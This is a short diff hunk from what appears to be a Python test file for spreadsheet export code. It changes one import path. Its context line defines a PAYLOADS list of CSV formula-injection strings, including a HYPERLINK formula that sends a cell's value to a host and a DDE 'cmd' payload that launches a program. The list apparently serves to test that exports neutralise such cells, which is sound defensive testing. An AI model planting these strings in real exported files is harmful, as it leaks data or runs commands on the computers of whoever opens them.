@@ -10,7 +10,7 @@ from core.access.exports import export_csv, export_xlsx, neutralise_cell, neutra
 from core.metrics.scorecard import format_scorecard
 from core.views import review, review_log
 from core.views.format import csv_export
-from core.views.review import review_pack
+from core.views.review_pack import review_pack
 
 PAYLOADS = ['=HYPERLINK("http://host/?"&A1,"x")', "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"]
 
